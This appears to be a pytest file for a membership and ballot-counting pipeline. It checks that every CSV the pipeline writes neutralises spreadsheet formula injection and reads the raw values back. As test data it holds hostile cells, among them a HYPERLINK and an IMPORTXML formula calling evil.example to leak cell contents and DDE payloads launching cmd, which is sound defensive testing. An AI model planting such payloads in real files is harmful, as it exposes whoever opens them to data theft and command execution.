"""No CSV omov writes holds a cell a spreadsheet would execute; omov reads its own back exactly.

The rule and its inverse are ``omov.csvsafe`` (docs/formats.md, "CSV cells that could be
formulas"). The pipeline test feeds hostile text in at every door (a member's name, address and
town; a candidate's name, bio and organisation; a returned ballot's token and marks) and checks
every CSV of every stage with a checker written independently of ``omov.csvsafe``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from omov import csvsafe
from omov.textio import csv_cell, csv_text, read_csv_records

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?t="&D3,"Update")'
# Still the member the roll lists (issue candidates validate checks the name against the number).
CANDIDATE = '=Tracy Atkinson&HYPERLINK("http://evil.example/")'
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def executable(cell: str) -> bool:
    """Independent of omov.csvsafe: would a spreadsheet treat this cell as a formula?"""
    if cell[:1] in ("\t", "\r", "\n", "\x00"):
        return True
    body = cell.lstrip(" \t\r\n\u00a0\u3000")
    if body[:1] not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
        return False
    return _PLAIN_NUMBER.fullmatch(cell) is None


def bad_cells(path: Path) -> list[tuple[int, str]]:
    """(line, cell) of every executable cell in a CSV, every physical line as a spreadsheet does."""
    text = path.read_text(encoding="utf-8-sig")
    found = []
    for row_no, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        found += [(row_no, c) for c in row if executable(c)]
    return found


# ----------------------------------------------------------------------- the rule itself


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),  # some spreadsheets skip leading blanks
        ("\uff1dA1", "'\uff1dA1"),  # full-width equals sign
        ("'=1+1", "''=1+1"),  # an apostrophe already there is kept (round trip)
        ("-1", "-1"),  # a plain number is not a formula: weights stay numbers
        ("+2.5", "+2.5"),
        ("-3e-4", "-3e-4"),
        ("-", "'-"),
        ("'t Hooft", "'t Hooft"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_known_cells(raw: str, written: str) -> None:
    assert csvsafe.neutralise(raw) == written
    assert csvsafe.restore(written) == raw
    assert not executable(written)


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\n0123456789.eE,\"aZ\uff1d\u00a0")) | st.text())
def test_round_trip_and_never_executable(cell: str) -> None:
    written = csvsafe.neutralise(cell)
    assert csvsafe.restore(written) == cell
    assert not executable(written)
    assert written in (cell, "'" + cell)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("'=+-@ \t\r0123456789.e,\"aZ")) | st.text()))
def test_arrow_path_agrees_with_python(cells: list[str]) -> None:
    array = pa.array(cells, pa.string())
    assert csvsafe.neutralise_array(array).to_pylist() == [csvsafe.neutralise(c) for c in cells]
    assert csvsafe.restore_array(csvsafe.neutralise_array(array)).to_pylist() == cells


_cells = st.text(alphabet=st.sampled_from("'=+-@ \t\r\n0123456789,\"aZ")) | st.text()


@settings(max_examples=100, deadline=None)
@given(
    st.lists(st.lists(_cells, min_size=2, max_size=2), max_size=5),
    st.lists(_cells, min_size=2, max_size=2, unique=True),
)
def test_write_csv_round_trip(rows: list[list[str]], header: list[str]) -> None:
    text = csv_text(header, [dict(zip(header, r, strict=True)) for r in rows])
    assert read_csv_records(text) == [header, *rows]
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(executable(c) for c in row)


def test_csv_cell_matches_the_csv_module() -> None:
    for raw in (FORMULA, "a,b", 'q"q', "x\ny", "-1", "plain"):
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerow([csvsafe.neutralise(raw), "z"])
        assert buf.getvalue() == csv_cell(raw) + ",z\n"


# ------------------------------------------------------------------ dedupe's fast paths


def test_dedupe_csv_paths_neutralise_and_decisions_read_back_raw(tmp_path: Path) -> None:
    from dedupe.decisions_file import load_decisions
    from dedupe.outputs import _csv

    fast = pd.DataFrame({"name": ["Ann", FORMULA.replace(",", ";").replace('"', "")], "n": [1, -2]})
    _csv(fast, tmp_path / "fast.csv")
    assert bad_cells(tmp_path / "fast.csv") == []
    assert "'=HYPERLINK" in (tmp_path / "fast.csv").read_text()
    assert "\n-2\n" not in (tmp_path / "fast.csv").read_text()  # the number column is unchanged
    # review_queue.csv → the auditor's decisions.csv → read back: raw values, not the escapes
    queue = pd.DataFrame(
        {
            "item_id": ["Q1"],
            "source_org_a": ["=org"],
            "row_id_a": ["1"],
            "source_org_b": ["b"],
            "row_id_b": ["2"],
            "name_a": [FORMULA],
            "weight": [-3.5],
            "decision": ["same"],
            "note": ["@auditor: -checked"],
        }
    )
    _csv(queue, tmp_path / "review_queue.csv")
    assert queue.loc[0, "name_a"] == FORMULA  # the caller's frame (rendered later) is unchanged
    assert bad_cells(tmp_path / "review_queue.csv") == []
    frame, _ = load_decisions(tmp_path / "review_queue.csv")
    assert frame.loc[0, "note"] == "@auditor: -checked"
    assert frame.loc[0, "decision"] == "same"
    assert frame.loc[0, "source_org_a"] == "=org"


# ---------------------------------------------------------- the ballot grid, both writers


def test_ballot_grid_header_and_title_are_safe_and_read_back(tmp_path: Path) -> None:
    from count.ballot_files import format_csv_ballots, read_csv_ballots
    from omov.ballotcsv import csv_grid_lines

    names = [CANDIDATE, "Bob", "-Carol"]
    title = 'NEC, =HYPERLINK("http://evil.example/")'
    ours = "".join(csv_grid_lines([((1, 2), 3), ((3,), 1)], names, 1, title))
    theirs = format_csv_ballots(names, 1, [[0, 1], [2]], [3, 1], title=title)
    assert ours == theirs
    path = tmp_path / "ballots.csv"
    path.write_text(ours, encoding="utf-8")
    assert bad_cells(path) == []
    ballots = read_csv_ballots(path)
    assert list(ballots.candidates) == names
    assert ballots.title == title


# ------------------------------------------------------------- every CSV of the pipeline


def hostile_sample(dst: Path) -> Path:
    """sample_data/ with formulas in a member export and in the candidates file."""
    shutil.copytree(ROOT / "sample_data", dst)
    path = dst / "exports" / "northern_socialists.csv"
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    head = rows[0]
    rows[1][head.index("First Name")] = FORMULA
    rows[2][head.index("Last Name")] = "+cmd|' /C calc'!A0"
    template = rows[1]
    # New people, on no other list, so written to by post: hostile address, town, postcode.
    for i, ((field, value), person) in enumerate(zip(POSTAL_HOSTILE, STRANGERS, strict=True)):
        row = list(template)
        row[head.index("Member ID")] = f"NSN99999{i}"
        number, first, last, postcode = person
        row[head.index("Labour Membership No")] = number
        row[head.index("First Name")] = first
        row[head.index("Last Name")] = last
        row[head.index("Postcode")] = postcode
        for blank in ("Email", "Mobile", "Date of Birth"):
            row[head.index(blank)] = ""
        row[head.index("Address Line 1")] = f"{i} Nowhere Lane"
        row[head.index("Town")] = "Leeds"
        row[head.index("Status")] = "Active"
        row[head.index(field)] = value
        rows.append(row)
    lapsed = list(rows[-1])  # one more stranger, lapsed: excluded.csv names them
    lapsed[head.index("Member ID")] = "NSN999999"
    lapsed[head.index("Labour Membership No")] = "L5937264"
    lapsed[head.index("First Name")] = "-2+3+cmd|' /C calc'!A0"
    lapsed[head.index("Last Name")] = "Umbridge"
    lapsed[head.index("Postcode")] = "WF1 2AA"
    lapsed[head.index("Status")] = "Lapsed"
    rows.append(lapsed)
    path.unlink()
    # An organisation whose name is a formula: every cell of its source_org column carries it.
    with (path.parent / "@northern_socialists.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    path = dst / "candidates.csv"
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    head = rows[0]
    by_name = {r[0]: r for r in rows[1:]}
    by_name["Tracy Atkinson"][0] = CANDIDATE
    by_name["Alasdair McDiarmid"][head.index("bio")] = '=IMPORTXML("http://evil.example/","//a")'
    by_name["Alasdair McDiarmid"][head.index("organisation")] = "@SUM(A1)"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    return dst


#: Four people unlike each other and anyone in the sample (number, first, last, postcode).
STRANGERS = [
    ("L1357911", "Ottoline", "Brackenbury", "LS1 4AB"),
    ("L2468024", "Peregrine", "Wolstenholme", "BD7 2QQ"),
    ("L3692581", "Hyacinth", "Fairweather", "HX1 5RT"),
    ("L4826159", "Barnaby", "Rudge", "YO1 7HH"),
]
POSTAL_HOSTILE = [
    ("Address Line 1", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("Town", "=1+1"),
    ("Address Line 1", "-2+3"),
    ("Town", "+1+1"),
]


def run_hostile_pipeline(tmp_path: Path) -> Path:
    """The demo on ``hostile_sample``, plus an intake of a hostile returned-ballot file."""
    from omov import demo
    from omov.cli import run

    out = tmp_path / "demo"
    assert demo.main(["--sample", str(hostile_sample(tmp_path / "s")), "--out", str(out)]) == 0
    returns = tmp_path / "hostile_returns.csv"
    # Hostile tokens; marks that parse (a preferences column no row parses is refused, exit 2).
    returns.write_text(f'token,preferences\n"{FORMULA}",1\n-1,2;1\n', encoding="utf-8")
    argv = ["vote", "intake", "--channel", f"postal={returns}", "--out", str(out / "intake2")]
    argv += ["--accept-invalid"]
    argv += ["--register", str(out / "issue" / "register.sqlite")]
    argv += ["--keys", str(out / "issue" / "vote.key")]
    argv += ["--ballot-def", str(out / "candidates" / "ballot_definition.json")]
    assert run(argv) in (0, 3)
    return out


@pytest.mark.slow
def test_no_csv_output_of_the_pipeline_starts_a_formula(tmp_path: Path) -> None:
    out = run_hostile_pipeline(tmp_path)
    simulator = {out / "returns", out / "returns_input"}  # bench/simulate_returns.py, not omov
    outputs = [p for p in sorted(out.rglob("*.csv")) if not any(d in p.parents for d in simulator)]
    names = {p.relative_to(out).as_posix() for p in outputs}
    for expected in (
        "issue/dispatch_post.csv",
        "issue/dispatch_email.csv",
        "issue/dispatch/batch-0001/dispatch_post.csv",
        "candidates/candidates_pack.csv",
        "count/result.csv",
        "intake/ballots.csv",
        "intake/rejected.csv",
        "intake2/rejected.csv",
        "dedupe/review_queue.csv",
        "dedupe/clusters.csv",
        "dedupe/rejected.csv",
        "dedupe/warnings.csv",
        "dedupe/excluded.csv",
        "dedupe/decisions_applied.csv",
    ):
        assert expected in names, expected
    for path in outputs:
        assert bad_cells(path) == [], path
    # The hostile text did reach the files (neutralised), so the checks above meant something.
    dispatch = "".join((out / "issue" / f"dispatch_{c}.csv").read_text() for c in ("email", "post"))
    for raw in [FORMULA, *(value for _, value in POSTAL_HOSTILE)]:
        assert '"' + csvsafe.neutralise(raw).replace('"', '""') + '"' in dispatch, raw
    dedupe = out / "dedupe"
    assert "\n'@northern_socialists," in (dedupe / "clusters.csv").read_text()
    assert "'@northern_socialists" in (dedupe / "warnings.csv").read_text()
    assert "'-2+3+cmd" in (dedupe / "excluded.csv").read_text()
    pack = (out / "candidates" / "candidates_pack.csv").read_text()
    assert csv_cell(CANDIDATE) in pack and "'@SUM(A1)" in pack and "'=IMPORTXML" in pack
    assert csv_cell(CANDIDATE) in (out / "intake" / "ballots.csv").read_text()
    assert "'=Tracy Atkinson" in (out / "count" / "result.csv").read_text()
    # omov's own readers undo it: the count of ballots.csv names the raw candidate, exactly as
    # the ballot definition does.
    from omov.cli import run

    ballot = json.loads((out / "candidates" / "ballot_definition.json").read_text())
    assert CANDIDATE in [c["name"] for c in ballot["candidates"]]
    argv = ["count", "run", str(out / "intake" / "ballots.csv"), "--rule", "ers97"]
    assert run([*argv, "--out", str(tmp_path / "count_csv"), "--tie-seed", "x"]) == 0
    result = json.loads((tmp_path / "count_csv" / "result.json").read_text())
    assert CANDIDATE in result["candidates"]


def test_a_carriage_return_cannot_start_a_new_row(tmp_path: Path) -> None:
    """Python 3.11's csv leaves a lone CR unquoted with LF line ends: a spreadsheet then starts a
    row there whose first cell escaped neutralisation. Both writers quote such rows."""
    from dedupe.outputs import _csv

    cell = "x\r=HYPERLINK(1)"
    text = csv_text(["a", "b"], [{"a": cell, "b": 1.5}])
    assert read_csv_records(text) == [["a", "b"], [cell, "1.5"]]
    _csv(pd.DataFrame({"a": [cell], "b": [2]}), tmp_path / "d.csv")
    written = (tmp_path / "d.csv").read_bytes().decode("utf-8")
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["a", "b"], [cell, "2"]]
    for written_text in (text, written):  # the CR is inside a quoted cell, not a line end
        assert '"x\r=HYPERLINK(1)"' in written_text


def test_dispatch_readers_see_the_raw_names(tmp_path: Path) -> None:
    """The mailer and the printer read dispatch files back: a member named '=Bob' is greeted and
    printed as '=Bob', not as the neutralised "'=Bob"."""
    from issue.mail import EMAIL_COLUMNS, read_recipients
    from issue.print_packs import POST_COLUMNS, read_postal
    from omov.textio import write_csv

    email = tmp_path / "dispatch_email.csv"
    write_csv(email, EMAIL_COLUMNS, [dict.fromkeys(EMAIL_COLUMNS, "x") | {"first_name": "=Bob"}])
    assert [r.first_name for r in read_recipients(email)] == ["=Bob"]
    assert "'=Bob" in email.read_text()
    post = tmp_path / "dispatch_post.csv"
    write_csv(post, POST_COLUMNS, [dict.fromkeys(POST_COLUMNS, "y") | {"full_name": "+Ann"}])
    assert [m.full_name for m in read_postal(post)] == ["+Ann"]
